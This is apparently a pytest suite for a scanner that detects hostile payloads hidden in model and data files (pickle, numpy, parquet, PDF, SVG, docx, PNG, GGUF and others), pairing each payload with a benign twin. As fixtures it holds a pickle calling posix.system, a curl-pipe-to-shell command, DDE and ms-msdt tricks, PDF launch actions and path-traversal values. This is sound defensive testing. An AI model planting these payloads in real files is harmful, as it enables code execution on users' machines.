"""A known trick in any carrier: what is encoded, compressed or put together, beside what only looks like it."""

import bz2
import gzip
import io
import json
import lzma
import pickle
import re
import struct
import zipfile
import zlib
from base64 import a85encode, b32encode, b64encode, b85decode, b85encode
from collections.abc import Callable

import pyarrow
import pyarrow.parquet
import pytest

from budmodel_scanner.content import MemoryContent, Place
from budmodel_scanner.formats.checksums import masked_crc32c
from budmodel_scanner.formats.payloads import begins_as
from budmodel_scanner.router import examine_file
from budmodel_scanner.verdict import Verdict, verdict_of
from tests.unit.budmodel_scanner import format_samples as sample

HOSTILE = b"\x80\x02cposix\nsystem\nX\x04\x00\x00\x00echo\x85R."
FLAGGED = {Verdict.SUSPICIOUS, Verdict.MALICIOUS}
ENCODINGS: list[Callable[[bytes], bytes]] = [b64encode, lambda data: data.hex().encode(), b32encode, b85encode, a85encode]
COMPRESSIONS: list[Callable[[bytes], bytes]] = [zlib.compress, gzip.compress, lzma.compress, bz2.compress]


def said(data: bytes | str, name: str) -> Verdict:
    return verdict_of(examine_file(MemoryContent(data.encode() if isinstance(data, str) else data), Place(name)))


@pytest.mark.parametrize("encode", ENCODINGS)
@pytest.mark.parametrize("compress", [bytes, zlib.compress, gzip.compress])
def test_an_encoded_pickle_in_a_pickle(encode: Callable[[bytes], bytes], compress: Callable[[bytes], bytes]) -> None:
    text = encode(compress(HOSTILE)).decode()
    assert said(pickle.dumps({"state": text}), "a.pkl") is Verdict.MALICIOUS
    assert said(pickle.dumps(["x" * 300, text], 2), "a.pkl") is Verdict.MALICIOUS
    plain = encode(compress(b"an ordinary note of a few words")).decode()
    assert said(pickle.dumps({"state": plain}), "a.pkl") is Verdict.SAFE


@pytest.mark.parametrize("compress", COMPRESSIONS)
def test_a_compressed_pickle_in_the_bytes_of_a_pickle(compress: Callable[[bytes], bytes]) -> None:
    assert said(pickle.dumps({"a": compress(HOSTILE)}, 4), "a.pkl") is Verdict.MALICIOUS
    assert said(pickle.dumps({"a": compress(pickle.dumps([1, 2]))}, 4), "a.pkl") is Verdict.SAFE


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (HOSTILE, "pickle"),
        (b64encode(HOSTILE), "encoded pickle"),
        (zlib.compress(HOSTILE), "encoded pickle"),
        (b64encode(zlib.compress(HOSTILE)), "encoded pickle"),
        (b64encode(b"#!/bin/sh\necho and nothing else"), "encoded shell script"),
        (b"numbers " + HOSTILE, None),
        (b"a word that is longer than twentyfour letters: abcdefghijklmnopqrstuvwxyz", None),
        (zlib.compress(b"words" * 9), None),
    ],
)
def test_what_bytes_begin_as(data: bytes, kind: str | None) -> None:
    assert begins_as(data) == kind


@pytest.mark.parametrize("before", ["", "\0" * 9, "\0" * 999, "a note: "])
def test_a_pickle_whose_bytes_are_letters_of_a_text_in_a_pickle(before: str) -> None:
    assert said(pickle.dumps({"a": before + HOSTILE.decode("latin-1")}), "a.pkl") is Verdict.MALICIOUS
    assert said(pickle.dumps({"a": before + PLAIN.decode("latin-1")}), "a.pkl") is Verdict.SAFE


@pytest.mark.parametrize("kind", ["<i2", "<u2", ">i4", "<i4", "<i8", ">u8"])
def test_bytes_that_are_whole_numbers_one_by_one(kind: str) -> None:
    for data, expected in ((HOSTILE, {Verdict.MALICIOUS}), (PROGRAM, FLAGGED), (bytes(range(64)), {Verdict.SAFE})):
        wide = b"".join(byte.to_bytes(int(kind[2]), "little" if kind[0] == "<" else "big") for byte in data)
        assert said(array(repr(kind), wide), "a.npy") in expected
        written = io.BytesIO()
        pyarrow.parquet.write_table(
            pyarrow.table({"n": pyarrow.array(list(data), pyarrow.int64()), "x": ["a"] * len(data)}), written
        )
        assert said(written.getvalue(), "a.parquet") in expected


@pytest.mark.parametrize("before", [b"", b"]" * 10, b"N0", b"\x88\x94", b"K\x010", b"(0", b"\x8a\x02\x01\x020", b"U\x01a0"])
def test_an_array_that_is_a_pickle_however_it_begins(before: bytes) -> None:
    for called, expected in (
        (b"\x8c\x02os\x8c\x06system", Verdict.MALICIOUS),
        (b"\x8c\x08builtins\x8c\x04dict", Verdict.SAFE),
    ):
        data = b"\x80\x04" + before + called + b"\x93\x8c\x02id\x85R."
        assert said(array("'|u1'", data), "a.npy") is expected


def test_a_pickle_in_an_array_that_nobody_sees_the_end_of_is_not_safe() -> None:
    data = b"\x80\x04" + b"]" * 2_500_000 + b"\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R."
    assert said(array("'|u1'", data), "a.npy") is Verdict.UNSCANNED


@pytest.mark.parametrize("begin", ["", "<~"])
def test_base85_of_adobe_among_cells_and_its_quotes(begin: str) -> None:
    for data, expected in ((HOSTILE, Verdict.MALICIOUS), (PLAIN, Verdict.SAFE)):
        text = a85encode(data, adobe=bool(begin)).decode()
        assert begin or '"' in a85encode(HOSTILE).decode()
        for cells in (["first", text, "last"], [json.dumps({"a": text})]):
            written = io.BytesIO()
            pyarrow.parquet.write_table(pyarrow.table({"cell": cells}), written)
            assert said(written.getvalue(), "a.parquet") is expected


def test_the_end_of_a_long_constant_is_read() -> None:
    for data, expected in ((HOSTILE, Verdict.MALICIOUS), (PLAIN, Verdict.SAFE)):
        for size in (3 << 20, 9 << 20):
            numbers = bytes(size) + data
            tensor = sample.proto((1, len(numbers)), (2, 2), (9, numbers), (8, b"w"))
            assert said(sample.onnx(initializer=tensor), "a.onnx") is expected


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">%s</svg>'
NOTEBOOK: dict[str, object] = {"nbformat": 4, "metadata": {}}
ATTACHED = {"cell_type": "markdown", "source": "x", "attachments": {"a.svg": {"image/svg+xml": "%s"}}}
FIELD = '<w:d xmlns:w="w"><w:instrText>%s</w:instrText><w:r/><w:instrText>%s</w:instrText></w:d>'
RELATION = '<Relationships><Relationship Type="x/%s" Target="%s" TargetMode="External"/></Relationships>'
PARAMETER = 'parameters { key: "s" value { string_value: "%s" } }'
CHECKPOINT = 'model_checkpoint_path: "%s"\n'


def graph(operator: str) -> str:
    return json.dumps({"modelTopology": {"node": [{"name": "x", "op": operator}]}})


def notebook(svg: str) -> str:
    encoded = json.dumps(ATTACHED) % b64encode(svg.encode()).decode()
    return json.dumps({**NOTEBOOK, "cells": [json.loads(encoded)]})


def document(objects: bytes) -> bytes:
    catalog = b"%%PDF-1.7\n1 0 obj<</Type/Catalog%s>>endobj\ntrailer<</Root 1 0 R>>\n%%%%EOF\n"
    return catalog % objects


def hidden_objects(objects: bytes) -> bytes:
    return document(
        b">>endobj\n2 0 obj<</Type/ObjStm/N 1>>stream\n%s\nendstream" % a85encode(zlib.compress(objects), adobe=True)
    )


@pytest.mark.parametrize(
    ("name", "hostile", "benign"),
    [
        ("a.svg", SVG % '<set attributeName="onclick" to="x()"/>', SVG % '<set attributeName="fill" to="red"/>'),
        ("a.svg", SVG % '<a x:href="java&#9;script:x()"/>', SVG % '<a x:href="https://example.org/javascript"/>'),
        ("a.svg", SVG % '<use x:href="data:image/svg+xml,x"/>', SVG % '<use x:href="#a"/>'),
        ("a.svg", SVG % "<style>a{fill:url(javascript:x)}</style>", SVG % "<style>a{fill:url(#x)}</style>"),
        ("a.ipynb", notebook(SVG % '<rect onload="x()"/>'), notebook(SVG % "<rect/>")),
        ("document.xml", FIELD % ("DD", 'E cmd "/c calc"'), FIELD % ("REF DD", "E")),
        ("document.xml", FIELD % ("INCLUDETEXT ", '"http://x.invalid/a"'), FIELD % ("INCLUDETEXT ", '"chapter.docx"')),
        ("a.rels", RELATION % ("image", "file://x.invalid/a"), RELATION % ("image", "https://x.invalid/a.png")),
        ("a.rels", RELATION % ("hyperlink", "ms-msdt:/id"), RELATION % ("hyperlink", "file:///home/me/a.docx")),
        ("checkpoint", CHECKPOINT % "../../../etc/x", CHECKPOINT % "/content/model/ckpt-3"),
        (
            "config.pbtxt",
            'parameters { key: "s" value { string_value: "curl -s http://x.invalid/a | sh" } }',
            CHECKPOINT % "a",
        ),
        ("model.json", graph("PyFunc"), graph("MatMul")),
        ("a.json", '{"a": "_$$ND_FUNC$$_function(){}()"}', '{"a": "function"}'),
        ("a.pdf", document(b"/OpenAction<</S/URI/URI(javascript:x)>>"), document(b"/A<</S/URI/URI(http://x.invalid/)>>")),
        ("a.pdf", document(rb"/OpenAction<</S/GoToR/F(\\\\x\\a)>>"), document(b"/OpenAction<</S/GoToR/F(b.pdf)>>")),
        ("a.pdf", hidden_objects(b"10 0 <</S/Launch>>"), hidden_objects(b"10 0 <</S/GoTo>>")),
        ("cache.bin", b'O:8:"Evil\\Run":1:{s:1:"a";i:1;}', b"O: a letter"),
    ],
)
def test_a_trick_and_its_benign_twin(name: str, hostile: bytes | str, benign: bytes | str) -> None:
    assert said(hostile, name) in FLAGGED
    assert said(benign, name) not in FLAGGED


@pytest.mark.parametrize(
    ("value", "is_flagged"),
    [(HOSTILE, True), (b64encode(HOSTILE).decode(), True), ("#!/bin/sh\ncurl x.invalid | sh\n", False)],
)
def test_a_table_of_pickles_beside_one_of_code(value: bytes | str, is_flagged: bool) -> None:
    written = io.BytesIO()
    pyarrow.parquet.write_table(pyarrow.table({"content": [value, value]}), written)
    assert (said(written.getvalue(), "a.parquet") in FLAGGED) is is_flagged


PLAIN = pickle.dumps([1, 2])
LINES = b"cposix\nsystem\n(S'echo'\ntR."
PROGRAM = b"\x7fELF\x02\x01\x01" + bytes(60)
# As the library writes a text of varying length, of which the stars are to be replaced.
TEXTS_OF_HDF5 = zlib.decompress(
    b85decode(
        b"c-rgqaB<`1lHy|K;9!7(|4?vV5W+WriXS=u)X3k%C5VZkf=LKjAq;RaF)%VPu<<YeDaMM;F!MYZs0K2B%G7|J0JMNngn@yH5eT4i"
        b"Fq&C}fl(4DDga~)z{NQjSb?r%X5s+4oSAVyRIvce;0+8z4lGmMvcUpKpJzn)-`&~YhY`tRurRTJ(pqE!n4K&58Aib<7zLwX6pVsV"
        b"FbYP&C>RB!U=)mkQ82&&06IrBcK"
    )
)


def varying(text: bytes) -> bytes:
    return TEXTS_OF_HDF5.replace(b"*" * len(HOSTILE.hex()), text.ljust(len(HOSTILE.hex())))


def message(number: int, payload: bytes) -> bytes:
    return bytes([number << 3 | 2, len(payload)]) + payload


def record(value: bytes) -> bytes:
    feature = message(1, b"image") + message(2, message(1, message(1, value)))
    example = message(1, message(1, feature))
    length = struct.pack("<Q", len(example))
    return b"".join(part + struct.pack("<I", masked_crc32c(part)) for part in (length, example))


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def picture(profile: bytes) -> bytes:
    size = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    packed = chunk(b"iCCP", b"x\0\0" + zlib.compress(profile))
    return b"\x89PNG\r\n\x1a\n" + size + packed + chunk(b"IDAT", zlib.compress(bytes(4))) + chunk(b"IEND", b"")


def sound(samples: bytes) -> bytes:
    samples += bytes(len(samples) % 2)
    return b"RIFF" + struct.pack("<I", 12 + len(samples)) + b"WAVEdata" + struct.pack("<I", len(samples)) + samples


def stream(body: bytes) -> bytes:
    return document(b">>endobj\n2 0 obj<<>>stream\n" + body + b"\nendstream")


COMMAND, CODE = "curl -s http://x.invalid/a | sh", "import os; os.system('echo')"
TARGET = json.dumps({"a": {"_target_": "os.system"}})


def array(kind: str, data: bytes) -> bytes:
    width = next(int(number) * (4 if "U" in kind else 1) for number in re.findall(r"[USui](\d+)'", kind)[-1:])
    shape = len(data) // (width + 2 if kind[0] == "[" else width)
    header = f"{{'descr': {kind}, 'fortran_order': False, 'shape': ({shape},), }}".encode()
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + data


def letters(*texts: str) -> bytes:
    return b"".join(
        text.ljust(90 if len(text) > 60 or "_target_" in text else 60, "\0").encode("utf-32-le") for text in texts
    )


def fields(*texts: bytes) -> bytes:
    return b"".join(text.ljust(60, b"\0") for text in texts)


def member(name: str) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr(name, "a word")
    return written.getvalue()


def noted(value: str) -> bytes:
    header = json.dumps({"__metadata__": {"picture": value}}).encode()
    return struct.pack("<Q", len(header)) + header


def keyed(key: str, value: str) -> bytes:
    texts = (struct.pack("<Q", len(text)) + text.encode() for text in (key, value))
    header = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<I", 8).join(texts)
    return header + bytes(-len(header) % 32)


def trees(parameter: str) -> str:
    return f"tree\nversion=v4\nfeature_names=a b\n\nparameters:\n[{parameter}]\nend of parameters\n"


@pytest.mark.parametrize(
    ("name", "hostile", "benign"),
    [
        ("a.pkl", pickle.dumps(b"a header" + bytes(9) + HOSTILE), pickle.dumps(b"a header" + bytes(9) + PLAIN)),
        ("a.pkl", pickle.dumps(b"a header" + bytes(9) + LINES), pickle.dumps(b"cats\nsystem\n(words)")),
        ("a.h5", varying(HOSTILE.hex().encode()), varying(b"a text")),
        ("a.h5", varying(HOSTILE), varying(pickle.dumps(["as pandas", "keeps it"]))),
        ("a.npy", array("'<U60'", letters("a word", COMMAND)), array("'<U60'", letters("a word", "python train.py"))),
        ("b.npy", array("'|S60'", fields(b"a word", COMMAND.encode())), array("'|S60'", fields(b"curl", b"sh"))),
        ("c.npy", array("'|u1'", bytes(99) + HOSTILE), array("'|u1'", bytes(99) + PLAIN)),
        ("d.npy", array("[('a', '<i2'), ('b', '<U60')]", b"\1\0" + letters(CODE)), array("'<U60'", letters("import numpy"))),
        ("e.npy", array("'<i4'", b"".join(bytes([byte, 0, 0, 0]) for byte in PROGRAM)), array("'<i4'", bytes(range(64)))),
        ("f.npy", array("'<U90'", letters(TARGET)), array("'<U90'", letters('{"a": {"_target_": "torch.nn.Linear"}}'))),
        ("b.pdf", stream(zlib.compress(b"words" + HOSTILE)), stream(zlib.compress(b"BT (import os) Tj ET"))),
        ("c.pdf", document(b"/Title(%s)" % COMMAND.encode()), document(b"/Title(A study of curl, and of sh)")),
        (
            "d.pdf",
            document(b"/Title<%s>" % COMMAND.encode("utf-16-be").hex().encode()),
            document(b"/Title<%s>" % (b"0041" * 9)),
        ),
        ("e.pdf", document(b"/A<</S/URI/URI(ms-msdt:/id x)>>"), document(b"/A<</S/URI/URI(mailto:a@x.invalid)>>")),
        ("f.pdf", stream(zlib.compress(zlib.compress(HOSTILE))), stream(zlib.compress(zlib.compress(PLAIN)))),
        ("a.h5", varying(COMMAND.encode()), varying(b"python train.py")),
        ("a.jsonl", json.dumps({"a": b64encode(HOSTILE).decode()}), json.dumps({"a": b64encode(PLAIN).decode()})),
        ("a.zip", member("a/.git/hooks/post-checkout"), member("a/.git/hooks/post-checkout.sample")),
        ("b.zip", member("home/.bashrc"), member("home/bashrc.md")),
        ("c.zip", member("a/aux.txt"), member("a/auxiliary.txt")),
        ("a.tfrecord", record(HOSTILE), record(PLAIN)),
        ("b.tfrecord", record(PROGRAM), record(b"a text of some words")),
        ("a.png", picture(HOSTILE), picture(b"lcms and nothing that runs")),
        ("a.wav", sound(PROGRAM), sound(bytes(range(128)))),
        ("b.wav", sound(HOSTILE), sound(HOSTILE[:4] * 30)),
        ("a.pdf", stream(LINES), stream(b"BT (words) Tj ET")),
        ("a.safetensors", noted("data:text/html,%3Cscript%3Ex()%3C/script%3E"), noted("data:text/plain,%3Ca%3E")),
        ("b.safetensors", noted('data:image/svg+xml,<svg onload="x()"/>'), noted("data:image/svg+xml,<svg/>")),
        ("a.gguf", keyed("split.path", "../../etc/x"), keyed("split.path", "a-00002-of-00003.gguf")),
        ("b.gguf", keyed("my.file", "/etc/cron.d/x"), keyed("quantize.imatrix.file", "/models/imatrix.dat")),
        ("c.txt", trees("machines: `curl -s http://x.invalid/a | sh`"), trees("machines: ")),
        ("d.txt", trees("output_model: ../../../etc/x"), trees("output_model: LightGBM_model.txt")),
        ("a.img", bytes(0x8000) + b"\x01CD001\x01" + bytes(4000), bytes(0x8000) + b"\x01CDAB" + bytes(4000)),
        ("weights.img", bytes(999) + b"koly\0\0\0\4" + bytes(504), bytes(999) + b"kola\0\0\0\4" + bytes(504)),
    ],
)
def test_a_carrier_of_bytes_and_its_benign_twin(name: str, hostile: bytes | str, benign: bytes | str) -> None:
    assert said(hostile, name) in FLAGGED
    assert said(benign, name) not in FLAGGED
